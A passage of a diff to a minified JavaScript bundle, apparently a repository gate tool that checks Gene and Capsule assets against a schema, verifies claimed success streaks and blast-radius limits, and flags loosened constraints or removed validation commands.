-"id"||e==="asset_id")return!0;if(n!=="Gene")return!1;const r=s==="minItems"&&t.length>0;return e==="validation"||e==="co\
-nstraints"&&!r}function Rb({value:n}){const{schema_version:e}=n,t=typeof e=="string"?/^1\.(\d+)\.\d+$/.exec(e)?.[1]:void 0;
-return t!==void 0&&Number(t)<Number(Tl.split(".")[1])}function Nb(n,e){const t=Gb(n,e),s=Si(n,({value:{capsule_id:r}})=>r);
-return r=>Fb(r,s.get(r.id)??[],t,e)}function Fb({id:n,value:{gene:e}},t,s,r){const i=[],o=[],c={files:0,lines:0};let l;const{
-successes:B,failure:d}=Od(n,t);for(const h of B){const{value:g}=h,C=s.get(h)??zb(g,r)??(Ub(g,e,r)?void 0:Mb)??(Zb(g)?"it\
- records no change":void 0);C===void 0?(o.push(h),Jb(c,g)||(l??=pa(g))):i.push({event:pa(g),why:C})}return{count:Ad(o),uncounted:i,
-ended:d!==void 0,...d&&B.length===0&&{failed:pa(d.value)},radius:c,...l!==void 0&&{unmeasured:l}}}function Od(n,e){const t=e.
-filter(({value:r})=>r.type==="EvolutionEvent"&&r.capsule_id===n).reverse(),s=t.findIndex(({value:r})=>!Pb(r));return s<0?
-{successes:t}:{successes:t.slice(0,s),failure:t[s]}}function Pb({outcome:n}){return $n(n)&&n.status==="success"}function Ad(n){
-const e=n.map(({value:t})=>t.id).filter(t=>typeof t=="string");return n.length-e.length+new Set(e).size}function Lb(n,e){
-const{successes:t,failure:s}=Od(n,e);return{count:Ad(t),ended:s!==void 0}}function jb({changes:n,present:e,unread:t}){const s=t.
+a value that matches \`${n}\` in the schema`}}function xd(n){return Array.isArray(n)?n.length===0?"an empty list":"a lis\
+t":n!==null&&typeof n=="object"?"an object":typeof n!="string"?String(n):n.length<=Nb?JSON.stringify(n):`a string of ${n.
+length} characters`}var Od=ot(916);const Pb=80,Lb=4;function Ni(n,e){const t=n.slice(0,Pb),s=e.find(i=>i.includes(n));if(s!==
+void 0&&n.length>=Lb)return s;const r=e.length>0?(0,Od.kp)(t,[...e]):void 0;if(r!==void 0)return(0,Od.Io)(t,r)<=t.length/
+2?r:void 0}function RN(n){return schemaDifferences(n.type,n.value).filter(e=>!Jb(n,e)).flatMap(e=>Mb(n,e)).map(e=>Ad(n,e,
+"warning"))}function jb(n){const e=Zb(n)?"warning":"error";return vd(n.type,n.value).map(t=>Ad(n,t,e))}function Ad(n,e,t){
+const{type:s,id:r}=n,{pointer:i,more:o}=e,c={...Ba(n,i),severity:t},l=(B,d,h,g)=>(0,at.gk)("schema-field",{type:s,id:r,field:B,
+fault:d,where:h,fix:g},c);switch(e.kind){case"missing":{const{fields:B}=e,h=`Add what is missing as the schema of the pr\
+otocol describes it${B.includes("asset_id")?"; `gene-gate fix --identity --write` adds `asset_id` in the repository of i\
+ts author":""}`;return l(B.join("`, `"),"is missing",Td(i,o),h)}case"unknown":{const B=Td(i.slice(0,-1),o),{field:d,absent:h}=e,
+g=Ni(d,h),C=g===void 0?"":`If you meant \`${g}\`, rename it. Otherwise, `,y=`${C}${C?"remove":"Remove"} \`${d}\` or store\
+ it outside the asset`;return l(d,"is unknown",B,y)}case"invalid":{const{expected:B}=e,d=`${e.found}${o===0?"":` (and in\
+ ${Sd(o)})`}`,h=i.join("."),g=`must be ${B}, but it is ${d}`;return l(h,g,"",`Change \`${h}\` to ${B}`)}}}function Sd(n){
+return n===1?"1 similar place":`${n} similar places`}function Td(n,e){return n.length===0?"":` in \`${n.join(".")}\`${e===
+0?"":` and ${Sd(e)}`}`}function Mb(n,e){const{type:t}=n,{pointer:s}=e;switch(e.kind){case"missing":{const r=e.fields.filter(
+i=>!Gb[t].has([...s,i].join("."))&&!(i==="source_type"&&(Id(n)??0)<zb));return r.length===0?[]:[{...e,fields:r}]}case"un\
+known":return[e];case"invalid":return Hb(t,s,e.keyword)?[]:[e]}}const Gb={Gene:new Set(["type","id","schema_version","as\
+set_id","validation","constraints","constraints.max_files","constraints.forbidden_paths"]),Capsule:new Set(["type","id",
+"schema_version","asset_id"]),EvolutionEvent:new Set(["type","id","schema_version","asset_id"]),Mutation:new Set(["type",
+"id"]),ValidationReport:new Set(["type","id"]),AntiGene:new Set(["type","id"])};function Hb(n,[e,...t],s){if(e==="type"||
+e==="id"||e==="asset_id")return!0;if(n!=="Gene")return!1;const r=s==="minItems"&&t.length>0;return e==="validation"||e===
+"constraints"&&!r}const zb=6,Ub={"Gene epigenetic_marks[]":["object","string"],"Gene _source":["object"],"Gene avoid[]":[
+"string"],"Gene anti_patterns[]":["object","string"],"Capsule content":["string"],"Capsule diff":["string"],"Capsule gen\
+e":["null"],"EvolutionEvent mutation_id":["null"],"EvolutionEvent applied_lessons[]":["object","string"]};function Jb({type:n,
+value:e},{kind:t,pointer:s}){const[r="",i=0,...o]=s,c=e[r]??null,l=Ub[`${n} ${r}${Array.isArray(c)?"[]":""}`];return t===
+"missing"||!l||typeof i!="number"||o.length>0?!1:[c].flat().every(B=>l.includes(B===null?"null":typeof B))}function Zb(n){
+return(Id(n)??Number.NaN)<Number(Il.split(".")[1])}function Id({value:{schema_version:n}}){const e=typeof n=="string"?/^1\.(\d+)\.\d+$/.
+exec(n)?.[1]:void 0;return e===void 0?void 0:Number(e)}function Wb(n,e){const t=Xb(n,e),s=Si(n,({value:{capsule_id:r}})=>r);
+return r=>Kb(r,s.get(r.id)??[],t,e)}function Kb({id:n,value:{gene:e}},t,s,r){const i=[],o=[],c={files:0,lines:0};let l;const{
+successes:B,failure:d}=$d(n,t);for(const h of B){const{value:g}=h,C=s.get(h)??t_(g,r)??(n_(g,e,r)?void 0:Qb)??(r_(g)?"it\
+ records no change":void 0);C===void 0?(o.push(h),s_(c,g)||(l??=ma(g))):i.push({event:ma(g),why:C})}return{count:Rd(o),uncounted:i,
+ended:d!==void 0,...d&&B.length===0&&{failed:ma(d.value)},radius:c,...l!==void 0&&{unmeasured:l}}}function $d(n,e){const t=e.
+filter(({value:r})=>r.type==="EvolutionEvent"&&r.capsule_id===n).reverse(),s=t.findIndex(({value:r})=>!qb(r));return s<0?
+{successes:t}:{successes:t.slice(0,s),failure:t[s]}}function qb({outcome:n}){return En(n)&&n.status==="success"}function Rd(n){
+const e=n.map(({value:t})=>t.id).filter(t=>typeof t=="string");return n.length-e.length+new Set(e).size}function Yb(n,e){
+const{successes:t,failure:s}=$d(n,e);return{count:Rd(t),ended:s!==void 0}}function Vb({changes:n,present:e,unread:t}){const s=t.
 at(-1),r=new Set(n.map(({asset:i})=>i));return e.filter(({type:i,path:o})=>i==="EvolutionEvent"&&(!s||o>=s.path)).map(i=>({
-value:i.value,log:i.path,isNew:r.has(i)}))}const Mb="it does not name the gene of the Capsule";function Gb(n,e){const t=new Map,
-s=new Map,r=new Set;for(const i of n){const o=Hb(i,s,e&&r.has(i.log));o!==void 0&&t.set(i,o),r.add(i.log);const{id:c}=i.
-value;typeof c=="string"&&!s.has(c)&&s.set(c,i)}return t}function Hb({value:n,isNew:e},t,s){const{id:r,parent:i}=n;if(e)
-return"the change that is judged adds or edits it";const o=typeof r=="string"?t.get(r):void 0;return o!==void 0?Zs(o.value)===
-Zs(n)?void 0:"an earlier event with other content has its id":typeof i=="string"&&i!==""?t.has(i)?void 0:"its parent is \
-not in the log before it":s?"it has no parent":void 0}function zb(n,e){const{id:t,asset_id:s}=n;if(s===void 0)return e?"\
+value:i.value,log:i.path,isNew:r.has(i)}))}const Qb="it does not name the gene of the Capsule";function Xb(n,e){const t=new Map,
+s=new Map,r=new Set;for(const i of n){const o=e_(i,s,e&&r.has(i.log));o!==void 0&&t.set(i,o),r.add(i.log);const{id:c}=i.
+value;typeof c=="string"&&!s.has(c)&&s.set(c,i)}return t}function e_({value:n,isNew:e},t,s){const{id:r,parent:i}=n;if(e)
+return"the change that is judged adds or edits it";const o=typeof r=="string"?t.get(r):void 0;return o!==void 0?Ws(o.value)===
+Ws(n)?void 0:"an earlier event with other content has its id":typeof i=="string"&&i!==""?t.has(i)?void 0:"its parent is \
+not in the log before it":s?"it has no parent":void 0}function t_(n,e){const{id:t,asset_id:s}=n;if(s===void 0)return e?"\
 it has no hash":void 0;if(ms({type:"EvolutionEvent",value:n})===void 0)return"its hash does not match its content";const r=typeof t==
-"string"&&t.trim()!=="";return e&&!r?"it has no id":void 0}function Ub({genes_used:n},e,t){return typeof e!="string"||e===
-""||!Array.isArray(n)?!t:n.includes(e)}function Jb(n,{blast_radius:e}){if(e===void 0)return!0;if(!$n(e))return!1;const{files:t,
-lines:s}=e;return!Sd(t)||!Sd(s)?!1:(n.files=Math.max(n.files,t),n.lines=Math.max(n.lines,s),!0)}function Zb({blast_radius:n}){
-return $n(n)&&(n.files===0||n.lines===0)}function Sd(n){return typeof n=="number"&&Number.isSafeInteger(n)&&n>=0}function pa({
-id:n}){return typeof n=="string"?n:"without an id"}function EN({assets:n}){const e=groupBy(jb(n),({value:t})=>t.capsule_id);
+"string"&&t.trim()!=="";return e&&!r?"it has no id":void 0}function n_({genes_used:n},e,t){return typeof e!="string"||e===
+""||!Array.isArray(n)?!t:n.includes(e)}function s_(n,{blast_radius:e}){if(e===void 0)return!0;if(!En(e))return!1;const{files:t,
+lines:s}=e;return!Nd(t)||!Nd(s)?!1:(n.files=Math.max(n.files,t),n.lines=Math.max(n.lines,s),!0)}function r_({blast_radius:n}){
+return En(n)&&(n.files===0||n.lines===0)}function Nd(n){return typeof n=="number"&&Number.isSafeInteger(n)&&n>=0}function ma({
+id:n}){return typeof n=="string"?n:"without an id"}function NN({assets:n}){const e=groupBy(Vb(n),({value:t})=>t.capsule_id);
 return n.changes.flatMap(({kind:t,asset:s})=>{const{success_streak:r}=s.value;if(t==="removed"||s.type!=="Capsule"||typeof r!=
-"number")return[];const{count:i,ended:o}=Lb(s.id,e.get(s.id)??[]);if(r<=i)return[];const c=placeOf(s,["success_streak"]),
+"number")return[];const{count:i,ended:o}=Yb(s.id,e.get(s.id)??[]);if(r<=i)return[];const c=placeOf(s,["success_streak"]),
 l=n.unread.at(-1);if(l!==void 0&&!o)return[notChecked(`the success streak of the Capsule \`${s.id}\``,l,c)];const B={type:s.
 type,id:s.id,claim:`claims a success streak of ${r}`,shown:`the events show ${i}`,fix:"Let the engine append the events \
-of its cycles, or correct `success_streak`"};return[finding("claim-differs",B,c)]})}function vN({changes:n,present:e,unread:t},s,r,i=new Map){
-const o=n.filter(Yb);if(o.length===0)return[];const c=streakCounter(eventsIn({changes:n,present:e,unread:t}),!0),l=t.at(
--1),B=r&&Wb(o,r);return o.map(({kind:d,asset:h,before:g})=>{if(d==="removed")return{change:d,asset:h,eligible:null,eligibility:null,
-reasons:[]};const C=d==="added"?B:g&&sizeOf(g.value.blast_radius),y=qb(h,()=>{const E=c(h),x=l===void 0||E.ended?E:{...E,
-unread:l},D=i.get(h);return[...Td(h,x,s,C),...D?[D]:[]]}),_=eligibilityOf(y);return{change:d,asset:h,eligible:_==="eligi\
-ble",eligibility:_,reasons:y}})}function Wb(n,e){const t=n.filter(({kind:i})=>i==="added").map(({asset:i})=>sizeOf(i.value.
+of its cycles, or correct `success_streak`"};return[finding("claim-differs",B,c)]})}function FN({changes:n,present:e,unread:t},s,r,i=new Map){
+const o=n.filter(c_);if(o.length===0)return[];const c=streakCounter(eventsIn({changes:n,present:e,unread:t}),!0),l=t.at(
+-1),B=r&&i_(o,r);return o.map(({kind:d,asset:h,before:g})=>{if(d==="removed")return{change:d,asset:h,eligible:null,eligibility:null,
+reasons:[]};const C=d==="added"?B:g&&sizeOf(g.value.blast_radius),y=a_(h,()=>{const E=c(h),x=l===void 0||E.ended?E:{...E,
+unread:l},D=i.get(h);return[...Fd(h,x,s,C),...D?[D]:[]]}),_=eligibilityOf(y);return{change:d,asset:h,eligible:_==="eligi\
+ble",eligibility:_,reasons:y}})}function i_(n,e){const t=n.filter(({kind:i})=>i==="added").map(({asset:i})=>sizeOf(i.value.
 blast_radius)??{files:0,lines:0}),s=i=>t.reduce((o,c)=>o+c[i],0);return s("files")>=e.files&&s("lines")>=e.lines?void 0:
-e}function Kb(n){const{otherAsset:e}=ruleOf(n.rule);return n.severity==="error"||isMissingEvidence(n)||e===!0}function qb(n,e){
-try{return[...e(),...promotionSchemaFindings(n),...identityFindings(n,"hand")].filter(Kb)}catch(t){return[assetNotJudged(
-n,t)]}}function Yb({asset:n}){return n.type==="Capsule"}function Td(n,e,t,s={files:0,lines:0}){const{status:r,score:i}=$d(
-n.value.outcome),o=$d(n.value.blast_radius),c={capsule:n.id},l=(...d)=>da(n,d),B=[];if(r!=="success"){const d=`\`outcome.\
-status\` is ${ma(r)}, but it must be "success"`;B.push((0,at.gk)("capsule-not-eligible",{...c,why:d},l("outcome","status")))}
-if(!Rd(i,t.min_score,1)){const d=`a number from ${t.min_score} to 1`,h=`\`outcome.score\` is ${ma(i)}, but it must be ${d}`;
+e}function o_(n){const{otherAsset:e}=ruleOf(n.rule);return n.severity==="error"||isMissingEvidence(n)||e===!0}function a_(n,e){
+try{return[...e(),...promotionSchemaFindings(n),...identityFindings(n,"hand")].filter(o_)}catch(t){return[assetNotJudged(
+n,t)]}}function c_({asset:n}){return n.type==="Capsule"}function Fd(n,e,t,s={files:0,lines:0}){const{status:r,score:i}=Ld(
+n.value.outcome),o=Ld(n.value.blast_radius),c={capsule:n.id},l=(...d)=>Ba(n,d),B=[];if(r!=="success"){const d=`\`outcome.\
+status\` is ${ga(r)}, but it must be "success"`;B.push((0,at.gk)("capsule-not-eligible",{...c,why:d},l("outcome","status")))}
+if(!jd(i,t.min_score,1)){const d=`a number from ${t.min_score} to 1`,h=`\`outcome.score\` is ${ga(i)}, but it must be ${d}`;
 B.push((0,at.gk)("capsule-not-eligible",{...c,why:h},l("outcome","score")))}for(const d of["files","lines"]){const h=t[`\
-max_${d}`],g=Math.max(s[d],e.radius?.[d]??0);if(Rd(o[d],1,h)&&g<=h)continue;const C=ma(o[d]),y=g>h?`${g} (claimed: ${C})`:
-C,_=`\`blast_radius.${d}\` is ${y}, but it must be ${Id(h)}`;B.push((0,at.gk)("capsule-not-eligible",{...c,why:_},l("bla\
+max_${d}`],g=Math.max(s[d],e.radius?.[d]??0);if(jd(o[d],1,h)&&g<=h)continue;const C=ga(o[d]),y=g>h?`${g} (claimed: ${C})`:
+C,_=`\`blast_radius.${d}\` is ${y}, but it must be ${Pd(h)}`;B.push((0,at.gk)("capsule-not-eligible",{...c,why:_},l("bla\
 st_radius",d)))}if(e.unmeasured!==void 0){const d=`\`blast_radius.files\` is not a size in the event \`${e.unmeasured}\`,\
- but it must be ${Id(t.max_files)}`;B.push((0,at.gk)("capsule-not-eligible",{...c,why:d},l("blast_radius")))}return e.count<
-t.min_success_streak&&B.push(...Vb(n,e,t.min_success_streak)),B}function Id(n){return`a number from 1 to ${n}`}function Vb(n,{
-count:e,unread:t,failed:s,uncounted:r=[]},i){const o=da(n),c={capsule:n.id};if(s!==void 0){const d=`the event \`${s}\`, t\
+ but it must be ${Pd(t.max_files)}`;B.push((0,at.gk)("capsule-not-eligible",{...c,why:d},l("blast_radius")))}return e.count<
+t.min_success_streak&&B.push(...u_(n,e,t.min_success_streak)),B}function Pd(n){return`a number from 1 to ${n}`}function u_(n,{
+count:e,unread:t,failed:s,uncounted:r=[]},i){const o=Ba(n),c={capsule:n.id};if(s!==void 0){const d=`the event \`${s}\`, t\
 he newest one that names it, is not a success`;return[(0,at.gk)("capsule-not-eligible",{...c,why:d},o)]}if(t!==void 0){const d=`\
-whether the Capsule \`${n.id}\` has enough consecutive successes`;return[Ny(d,t,{...o,severity:"error"})]}const l=r.slice(
-0,Qb).map(({event:d,why:h})=>`the event \`${d}\` does not count: ${h}`),B={...c,streak:e,least:i,uncounted:l};return[(0,at.
-gk)("capsule-streak",B,o)]}const Qb=5;function $d(n){return $n(n)?n:{}}function Rd(n,e,t){return typeof n=="number"&&n>=
-e&&n<=t}function ma(n){return n===void 0?"missing":Ed(n)}const kN={level:"none",description:"Nothing was run."},DN={files:0,
-lines:0,exempt_files:0,exempt_lines:0};function Dr(n){const e=i=>({constraints:e_,problems:[{...i,pointer:["constraints"]}]});
-if(n===void 0)return e({kind:"missing"});if(!$n(n))return e({kind:"malformed",detail:"an object"});const t=[],s=t_(n.max_files,
-t);return{constraints:{maxFiles:s??ca,isDefaultLimit:s===void 0,forbiddenPaths:n_(n.forbidden_paths,t)},problems:t}}function Xb(n,e){
+whether the Capsule \`${n.id}\` has enough consecutive successes`;return[My(d,t,{...o,severity:"error"})]}const l=r.slice(
+0,l_).map(({event:d,why:h})=>`the event \`${d}\` does not count: ${h}`),B={...c,streak:e,least:i,uncounted:l};return[(0,at.
+gk)("capsule-streak",B,o)]}const l_=5;function Ld(n){return En(n)?n:{}}function jd(n,e,t){return typeof n=="number"&&n>=
+e&&n<=t}function ga(n){return n===void 0?"missing":xd(n)}const PN={level:"none",description:"Nothing was run."},LN={files:0,
+lines:0,exempt_files:0,exempt_lines:0};function Dr(n){const e=i=>({constraints:B_,problems:[{...i,pointer:["constraints"]}]});
+if(n===void 0)return e({kind:"missing"});if(!En(n))return e({kind:"malformed",detail:"an object"});const t=[],s=f_(n.max_files,
+t);return{constraints:{maxFiles:s??ua,isDefaultLimit:s===void 0,forbiddenPaths:h_(n.forbidden_paths,t)},problems:t}}function d_(n,e){
 if(n===void 0)return e;const{maxFiles:t,isDefaultLimit:s}=n.maxFiles<e.maxFiles?n:e;return{maxFiles:t,isDefaultLimit:s,forbiddenPaths:[
-...new Set([...n.forbiddenPaths,...e.forbiddenPaths])]}}const e_={maxFiles:ca,isDefaultLimit:!0,forbiddenPaths:[]};function t_(n,e){
+...new Set([...n.forbiddenPaths,...e.forbiddenPaths])]}}const B_={maxFiles:ua,isDefaultLimit:!0,forbiddenPaths:[]};function f_(n,e){
 const t=["constraints","max_files"];if(n===void 0)e.push({kind:"missing",pointer:t});else{if(Number.isSafeInteger(n)&&Number(
-n)>0)return Number(n);e.push({kind:"malformed",pointer:t,detail:"an integer greater than 0"})}}function n_(n,e){const t=[
+n)>0)return Number(n);e.push({kind:"malformed",pointer:t,detail:"an integer greater than 0"})}}function h_(n,e){const t=[
 "constraints","forbidden_paths"];if(n===void 0)return e.push({kind:"missing",pointer:t}),[];if(!Array.isArray(n))return e.
 push({kind:"malformed",pointer:t,detail:"a list of paths"}),[];const s=new Set;for(const[r,i]of n.entries()){const o=typeof i==
 "string"?Bt(i):void 0;if(typeof i!="string"||!o){e.push({kind:"malformed",pointer:[...t,r],detail:"a path below the root\
- of the repository"});continue}dy(i)&&e.push({kind:"pattern",pointer:[...t,r],detail:i}),s.add(o)}return[...s]}function xN(n,e){
+ of the repository"});continue}my(i)&&e.push({kind:"pattern",pointer:[...t,r],detail:i}),s.add(o)}return[...s]}function jN(n,e){
 const{asset:t,change:s,binds:r}=n,{constraints:i}=Dr(t.value.constraints),o=s?.before&&Dr(s.before.value.constraints).constraints,
-c=Xb(o,i),{maxFiles:l,isDefaultLimit:B}=c,d=s_(e.policy),h=r&&isChange(e)?e.radius:NOTHING_TOUCHED,g=cappedSize(h,e.policy.
+c=d_(o,i),{maxFiles:l,isDefaultLimit:B}=c,d=p_(e.policy),h=r&&isChange(e)?e.radius:NOTHING_TOUCHED,g=cappedSize(h,e.policy.
 blast_radius.counting),C=gradeFiles(h.files,l,g,d),y=C==="hard_cap_breach"?g:h,_=gradeWords(C,y,l,d);return{base:o,head:i,
-constraints:c,blastRadius:{...h,max_files:l,...B&&{default_limit:!0},severity:C,message:_}}}function s_({blast_radius:n}){
-const{hard_cap_files:e,hard_cap_lines:t}=n;return{files:e,lines:t}}function ON({kind:n,asset:e,before:t}){return t===void 0||
-e.cut||n!=="added"&&n!=="modified"?[]:[...r_(t,e),...i_(t,e)]}function r_(n,e){const[t,s]=[Nd(n),Nd(e)],r="validation";return[
+constraints:c,blastRadius:{...h,max_files:l,...B&&{default_limit:!0},severity:C,message:_}}}function p_({blast_radius:n}){
+const{hard_cap_files:e,hard_cap_lines:t}=n;return{files:e,lines:t}}function MN({kind:n,asset:e,before:t}){return t===void 0||
+e.cut||n!=="added"&&n!=="modified"?[]:[...m_(t,e),...g_(t,e)]}function m_(n,e){const[t,s]=[Md(n),Md(e)],r="validation";return[
 ...[...t].filter(i=>!s.has(i)).map(i=>({kind:"command_removed",field:r,base:i,head:null})),...[...s].filter(i=>!t.has(i)).
-map(i=>({kind:"command_added",field:r,base:null,head:i}))]}function Nd(n){const e=validationCommands(n),t=e.kind==="list"?
-e.entries.map(({value:s})=>s):[];return new Set(t.filter(s=>typeof s=="string"))}function i_(n,e){const{constraints:t}=Dr(
+map(i=>({kind:"command_added",field:r,base:null,head:i}))]}function Md(n){const e=validationCommands(n),t=e.kind==="list"?
+e.entries.map(({value:s})=>s):[];return new Set(t.filter(s=>typeof s=="string"))}function g_(n,e){const{constraints:t}=Dr(
 n.value.constraints),{constraints:s}=Dr(e.value.constraints),r=[];s.maxFiles!==t.maxFiles&&r.push({kind:s.maxFiles>t.maxFiles?
 "constraint_loosened":"constraint_tightened",field:"constraints.max_files",base:String(t.maxFiles),head:String(s.maxFiles)});
-const i="constraints.forbidden_paths";for(const o of Fd(t.forbiddenPaths,s.forbiddenPaths))r.push({kind:"constraint_loos\
-ened",field:i,base:o,head:null});for(const o of Fd(s.forbiddenPaths,t.forbiddenPaths))r.push({kind:"constraint_tightened",
-field:i,base:null,head:o});return r}function Fd(n,e){return n.filter(t=>!e.some(s=>isWithin(t,s)))}var Ni=ot(698);const o_=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;
-function a_(n){return!o_.test(n)}function c_(n){const e=new Map;for(const i of n){if(e.has(i.path))throw Ca(i.path,"occu\
-rs twice");if(!a_(i.path))throw Ca(i.path,"cannot be checked out");e.set(i.path,i)}for(const{path:i,tracked:o}of[...e.values()])
-for(let c=ya(i);c!=="";c=ya(c)){const l=e.get(c)?.kind;if(l==="directory")break;if(l!==void 0)throw Ca(i,`is below the ${l}\
- ${c}`);e.set(c,{path:c,kind:"directory",tracked:o})}const t=[...e.values()].sort(Pd);let s;e.set("",{path:"",kind:"dire\
+const i="constraints.forbidden_paths";for(const o of Gd(t.forbiddenPaths,s.forbiddenPaths))r.push({kind:"constraint_loos\
+ened",field:i,base:o,head:null});for(const o of Gd(s.forbiddenPaths,t.forbiddenPaths))r.push({kind:"constraint_tightened",
+field:i,base:null,head:o});return r}function Gd(n,e){return n.filter(t=>!e.some(s=>isWithin(t,s)))}var Fi=ot(698);const C_=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;
+function y_(n){return!C_.test(n)}function w_(n){const e=new Map;for(const i of n){if(e.has(i.path))throw ya(i.path,"occu\
+rs twice");if(!y_(i.path))throw ya(i.path,"cannot be checked out");e.set(i.path,i)}for(const{path:i,tracked:o}of[...e.values()])
+for(let c=wa(i);c!=="";c=wa(c)){const l=e.get(c)?.kind;if(l==="directory")break;if(l!==void 0)throw ya(i,`is below the ${l}\
+ ${c}`);e.set(c,{path:c,kind:"directory",tracked:o})}const t=[...e.values()].sort(Hd);let s;e.set("",{path:"",kind:"dire\
 ctory",tracked:!0});const r=t.filter(({kind:i,tracked:o})=>o&&i!=="directory");return{stat:i=>e.get(i),list:i=>(s??=Si(t,
-({path:o})=>ya(o)),s.get(i)??[]),files:()=>r}}function Pd(n,e){return n.path<e.path?-1:n.path>e.path?1:0}function ga(n){
-const e=[];for(let t=n.indexOf("/");t>=0;t=n.indexOf("/",t+1))e.push(n.slice(0,t));return e}function u_(n,e){return new Ni.
+({path:o})=>wa(o)),s.get(i)??[]),files:()=>r}}function Hd(n,e){return n.path<e.path?-1:n.path>e.path?1:0}function Ca(n){
+const e=[];for(let t=n.indexOf("/");t>=0;t=n.indexOf("/",t+1))e.push(n.slice(0,t));return e}function b_(n,e){return new Fi.
 ue("file_unreadable",`${e} is not a regular file in ${n}`,"Check the spelling of the path. It must be a file of its own,\
- not a directory or a symlink.")}function AN(n,e,t,s){return new GateError("file_unreadable",`${e} in ${n} has ${t} byte\
-s; the limit is ${s}`,"Split the file, or move large data out of it.")}function Ca(n,e){return new Ni.ue("file_unreadabl\
-e",`The tree contains the path ${JSON.stringify(n)}, which ${e}`,"Recreate the commit with an unmodified git.")}function ya(n){
-return n.slice(0,Math.max(n.lastIndexOf("/"),0))}function Ld(n,{policy:e,tree:t,base:s}){const[r]=e.stores.map(({path:c,
+ not a directory or a symlink.")}function GN(n,e,t,s){return new GateError("file_unreadable",`${e} in ${n} has ${t} byte\
+s; the limit is ${s}`,"Split the file, or move large data out of it.")}function ya(n,e){return new Fi.ue("file_unreadabl\
+e",`The tree contains the path ${JSON.stringify(n)}, which ${e}`,"Recreate the commit with an unmodified git.")}function wa(n){
+return n.slice(0,Math.max(n.lastIndexOf("/"),0))}function zd(n,{policy:e,tree:t,base:s}){const[r]=e.stores.map(({path:c,
 root:l})=>({path:Bt(c)??"",root:Bt(l)??""})).filter(({path:c})=>sn(n,c)).sort((c,l)=>l.path.length-c.path.length),i=He.posix.
 dirname(n).replace(/^\.$/,"");if(r!==void 0)return{path:i,root:r.root,named:!0};const o=[s,t].find(c=>c?.stat(i)?.kind===
-"directory");return{path:i,root:(o&&l_(o,i)[0])??""}}function SN(n,e){const t=new Set([...n].map(r=>Ld(r,e).root)),[s=""]=t;
-return t.size===1?s:""}const jd=Rn(()=>new Map);function l_(n,e){const t=jd(n).get(e)??d_(n,e);return jd(n).set(e,t),t}function d_(n,e){
-return[...new Set([e,...ga(e).reverse(),""])].filter(s=>n.stat(He.posix.join(s,"package.json"))!==void 0)}const B_=[["?=",
-"attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function Fi(n,e=t=>t){const t=new Map;for(const[s,
-r]of Object.entries(n))for(const i of r.split(/\s+/).filter(Boolean)){const[,o=i,c]=/^([^=]+=)(.+)$/s.exec(i)??[],[l,B]=B_.
+"directory");return{path:i,root:(o&&__(o,i)[0])??""}}function HN(n,e){const t=new Set([...n].map(r=>zd(r,e).root)),[s=""]=t;
+return t.size===1?s:""}const Ud=Rn(()=>new Map);function __(n,e){const t=Ud(n).get(e)??E_(n,e);return Ud(n).set(e,t),t}function E_(n,e){
+return[...new Set([e,...Ca(e).reverse(),""])].filter(s=>n.stat(He.posix.join(s,"package.json"))!==void 0)}const v_=[["?=",
+"attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function Pi(n,e=t=>t){const t=new Map;for(const[s,
+r]of Object.entries(n))for(const i of r.split(/\s+/).filter(Boolean)){const[,o=i,c]=/^([^=]+=)(.+)$/s.exec(i)??[],[l,B]=v_.
 find(([g])=>o.endsWith(g))??["","none"],[d="",...h]=o.slice(0,o.length-l.length).split(",");for(const g of[d,...h]){const C=e(
 g);if(t.has(C))throw new Error(`flag ${g} stands in two groups`);t.set(C,{name:d,kind:s,arity:B,...c&&{choices:c.split("\
-|")}})}}return t}function Md(n){return new Map([...Fi(n)].map(([e,{kind:t}])=>[e,t]))}function qs(n){return n.length===1?
-n:n.replace(/[-_]/g,"").toLowerCase()}function xr({known:n,refusal:e},t){return n(t)!==void 0||e(t)!==void 0}function Gd({
-data:n},e){const t=n.completes&&e.startsWith("--");return n.directory_flags.some(s=>s===e||t&&s.startsWith(e))}function vn(n,e=[]){
-const{flags:t,starts:s,behind:r}=n,i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Pi([t,...e,Ud]),stops:i,
-readsBehind:n.reads_behind,handsOn:n.hands_on,data:n,refused:Pi([n.refused]),behind:r&&Pi([r.flags,Ud]),subcommands:new Map}}
-function f_(n,e,t={}){const{completes:s}=e,r=(l,...B)=>({...vn(l,[...B,t]),completes:s,subcommands:new Map}),{subcommands:i,
+|")}})}}return t}function Jd(n){return new Map([...Pi(n)].map(([e,{kind:t}])=>[e,t]))}function qs(n){return n.length===1?
+n:n.replace(/[-_]/g,"").toLowerCase()}function xr({known:n,refusal:e},t){return n(t)!==void 0||e(t)!==void 0}function Zd({
+data:n},e){const t=n.completes&&e.startsWith("--");return n.directory_flags.some(s=>s===e||t&&s.startsWith(e))}function kn(n,e=[]){
+const{flags:t,starts:s,behind:r}=n,i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Li([t,...e,qd]),stops:i,
+readsBehind:n.reads_behind,handsOn:n.hands_on,data:n,refused:Li([n.refused]),behind:r&&Li([r.flags,qd]),subcommands:new Map}}
+function k_(n,e,t={}){const{completes:s}=e,r=(l,...B)=>({...kn(l,[...B,t]),completes:s,subcommands:new Map}),{subcommands:i,
 ...o}=e,c=r(o);for(const[l,B]of Object.entries(i)){const d=l.split(" "),h=(d.pop()??"").split(","),g=d.reduce((y,_)=>{const k=y.
-subcommands.get(_)??r({alone:"only-prints"},e.flags);return Hd(y,_,k)},c),C=r(B,e.flags);for(const y of h)Hd(g,y,C)}return{
-program:n,use:c,data:e}}function Hd(n,e,t){return n.subcommands.set(e,t),n.stops=!0,t}function zd(n,e=[]){const t=i=>i.startsWith(
-"-")?i:`${i.length===1?"-":"--"}${i}`,s=Pi([n,{text:e.join(" ")}],t),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:t(
-o.name)}]));return{...s,flags:r,strict:!0}}const Ud={"only-prints":"help h version v V"};function Pi(n,e=qs){const t=new Map,
-s=[];for(const r of n)for(const[i,o]of Fi(r??{},e))i.endsWith("~")?s.push([i.slice(0,-1),o]):t.has(i)||t.set(i,o);return{
-flags:t,prefixes:s}}function wa({flags:n,prefixes:e},t){return n.get(t)??e.find(([s])=>t.startsWith(s))?.[1]}const h_={known:()=>{},
